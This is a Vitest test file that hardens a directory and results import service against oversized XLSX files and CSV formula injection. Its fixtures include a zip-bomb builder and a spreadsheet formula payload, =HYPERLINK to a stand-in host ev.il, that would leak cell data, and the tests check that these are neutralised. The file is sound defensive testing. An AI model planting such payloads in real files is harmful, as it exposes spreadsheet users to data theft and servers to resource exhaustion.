import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importProblemsToCsv } from '../../src/reports/csv/import-problems-csv';
import { buildTestApp, type TestApp } from '../helpers/build-test-app';
import { cycleRequest } from '../helpers/cycle-factory';
import { demoEmailByRole, signInAs } from '../helpers/sign-in';
import { testEngines } from '../helpers/test-database';
import { buildSharedStringBomb, buildXlsx } from '../helpers/xlsx-file-factory';

// Issue #15, findings 1, 5 and 12 b–d: bounded spreadsheet reading, formula-safe CSV, capped problem lists.
// The payload, shortened to fit the 40-character alias.
const hyperlink = '=HYPERLINK("http://ev.il/?"&A1,"Buka")';
const directoryHeader =
  'kode_entitas,jenis_entitas,kode_provinsi,nama_resmi,nama_singkat,alias,jenis_unit,nama_unit';
const muba = '16.06,pemkab,16,Pemerintah Kabupaten Musi Banyuasin,Kab. Musi Banyuasin';
// Built once: 100 MB of one shared string packed into about 100 KB, as in the issue.
const bomb = buildSharedStringBomb(100);

describe.each(testEngines())('import hardening on $name', (engine) => {
  let testApp: TestApp;
  let admin: string;
  let coordinator: string;
  const post = (url: string, payload: string | Buffer, contentType: string, cookie = coordinator) =>
    testApp.app.inject({ method: 'POST', url, headers: { cookie, 'content-type': contentType }, payload });
  const get = (url: string, cookie = coordinator) =>
    testApp.app.inject({ method: 'GET', url, headers: { cookie } });
  const auditCount = async () => (await get('/api/audit?pageSize=1', admin)).json().total;
  /** Every cell of a CSV answer; none may start as a formula. */
  const cellsOf = (csv: string): string[] =>
    parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();

  beforeAll(async () => {
    testApp = await buildTestApp(engine, { withDemoUsers: true });
    admin = await signInAs(testApp.app, demoEmailByRole.admin);
    coordinator = await signInAs(testApp.app, demoEmailByRole.coordinator);
    const created = await testApp.app.inject({
      method: 'POST',
      url: '/api/cycles',
      headers: { cookie: admin },
      payload: cycleRequest(2024, 'preparation'),
    });
    expect(created.statusCode).toBe(201);
  });
  afterAll(() => testApp.close());

  it('answers the 6 KB XLSX with a cell at A4000 by its one row, and liveness answers meanwhile', async () => {
    const header = Object.fromEntries(
      directoryHeader.split(',').map((name, index) => [`${'ABCDEFGH'[index]}1`, name]),
    );
    const file = await buildXlsx({ ...header, Z1: 'z', A4000: 'NO-SUCH' });
    expect(file.length).toBeLessThan(10 * 1024);
    const order: string[] = [];
    const importing = post('/api/directory/import?format=xlsx', file, 'application/octet-stream').then(
      (response) => {
        order.push('import');
        return response;
      },
    );
    const live = await testApp.app.inject({ method: 'GET', url: '/api/health/live' });
    order.push('live');
    const response = await importing;
    expect(live.statusCode).toBe(200);
    // The parse runs in a worker thread: the probe sent with it is answered first.
    expect(order).toEqual(['live', 'import']);
    expect(response.statusCode).toBe(422);
    expect(response.json().error.details).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ row: 4000, column: 'kode_entitas', value: 'NO-SUCH' }),
      ]),
    );
  });

  it('refuses the zip bomb with 413 naming the limit, and writes nothing', async () => {
    expect(bomb.length).toBeLessThan(200 * 1024);
    const audit = await auditCount();
    for (const url of ['/api/directory/import?format=xlsx', '/api/cycles/2024/loci/import?format=xlsx']) {
      const response = await post(url, bomb, 'application/octet-stream');
      expect(response.statusCode).toBe(413);
      expect(response.json().error).toMatchObject({
        code: 'FILE_TOO_LARGE',
        details: { limit: 'maxDecompressedBytes' },
      });
      expect(response.json().error.message).toContain('melebihi batas 50 MB');
    }
    const english = await testApp.app.inject({
      method: 'POST',
      url: '/api/results/imports',
      headers: { cookie: admin, 'accept-language': 'en' },
      payload: { fileName: 'bom.xlsx', contentBase64: bomb.toString('base64') },
    });
    expect(english.statusCode).toBe(413);
    expect(english.json().error.message).toContain('over the limit of 50 MB');
    expect(await auditCount()).toBe(audit);
    expect((await get('/api/cycles/2024/loci', admin)).json().total).toBe(0);
    expect((await get('/api/results/snapshots', admin)).json().items).toEqual([]);
  });

  it('decodes a Windows-1252 CSV as Excel on Windows saves it', async () => {
    const text = `${directoryHeader}\r\n${muba},Muba,dinas-sosial,Dinas Sosial Daérah\r\n`;
    const response = await post('/api/directory/import?format=csv', Buffer.from(text, 'latin1'), 'text/csv');
    expect(response.json()).toMatchObject({ unitsCreated: 1 });
    const units = (await get('/api/entities/16.06')).json().units.map((unit: { name: string }) => unit.name);
    expect(units).toContain('Dinas Sosial Daérah');
  });

  it('reports an unterminated quote by its row and writes nothing', async () => {
    const audit = await auditCount();
    const text = `${directoryHeader}\n${muba},Muba,puskesmas,Puskesmas A\n${muba},Muba,puskesmas,"Puskesmas B\n${muba},Muba,puskesmas,Puskesmas C\n`;
    const response = await post('/api/directory/import?format=csv', text, 'text/csv');
    expect(response.statusCode).toBe(422);
    expect(response.json().error.details).toEqual([
      expect.objectContaining({
        row: 3,
        message: expect.objectContaining({ en: expect.stringContaining('row 3') }),
      }),
    ]);
    expect(await auditCount()).toBe(audit);
  });

  it('lists the first 1,000 problems with the total, in the API and the problem CSV', async () => {
    const lines = [directoryHeader];
    for (let row = 0; row < 1_500; row += 1) lines.push(`NO-${row},pemkab,16,X,X,,puskesmas,P`);
    const directory = await post('/api/directory/import?format=csv', lines.join('\n'), 'text/csv');
    expect(directory.statusCode).toBe(422);
    expect(directory.json().error.details).toHaveLength(1_000);
    expect(directory.json().error.detailsTotal).toBe(1_500);
    expect(directory.json().error.details[999].row).toBe(1_001);
    expect(directory.json().error.message).toContain('1500 kesalahan');

    const results = ['year,entity_code,score'];
    for (let row = 0; row < 5_000; row += 1) results.push(`2023,NO-${row},80`);
    const refused = await testApp.app.inject({
      method: 'POST',
      url: '/api/results/imports',
      headers: { cookie: admin },
      payload: { fileName: 'hasil.csv', contentBase64: Buffer.from(results.join('\n')).toString('base64') },
    });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().error.details).toHaveLength(1_000);
    expect(refused.json().error.detailsTotal).toBe(5_000);
    expect(refused.body.length).toBeLessThan(400 * 1024);
  });

  it('neutralises =HYPERLINK names in the directory and loci CSV exports and the problem CSV', async () => {
    const directoryFile = `${directoryHeader}\n${muba},"${hyperlink.replaceAll('"', '""')}",puskesmas,"${hyperlink.replaceAll('"', '""')}"\n`;
    const imported = await post('/api/directory/import?format=csv', directoryFile, 'text/csv');
    expect(imported.json()).toMatchObject({ aliasesChanged: 1, unitsCreated: 1 });
    const lociFile = `kode_entitas,jenis_unit,nama_unit\n16.06,puskesmas,"${hyperlink.replaceAll('"', '""')}"\n`;
    expect((await post('/api/cycles/2024/loci/import?format=csv', lociFile, 'text/csv')).statusCode).toBe(
      200,
    );

    const directoryCsv = (await get('/api/directory/export?format=csv&provinceCode=16')).body;
    const lociCsv = (await get('/api/cycles/2024/loci/export?format=csv')).body;
    for (const csv of [directoryCsv, lociCsv]) {
      expect(csv).toContain(`"'=HYPERLINK(""http://ev.il/?""&A1,""Buka"")"`);
      expect(cellsOf(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
    // The export imports back unchanged: the quote is taken off again.
    const again = await post('/api/directory/import?format=csv', directoryCsv, 'text/csv');
    expect(again.json()).toMatchObject({ aliasesChanged: 0, unitsCreated: 0 });
    expect((await get('/api/entities/16.06')).json().alias).toBe(hyperlink);

    const problems = await post(
      '/api/directory/import?format=csv',
      `${directoryHeader}\n"${hyperlink.replaceAll('"', '""')}",pemkab,16,X,X,,puskesmas,P\n`,
      'text/csv',
    );
    const details = problems.json().error.details;
    expect(details[0].value).toBe(hyperlink);
    expect(cellsOf(importProblemsToCsv(details)).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });
});
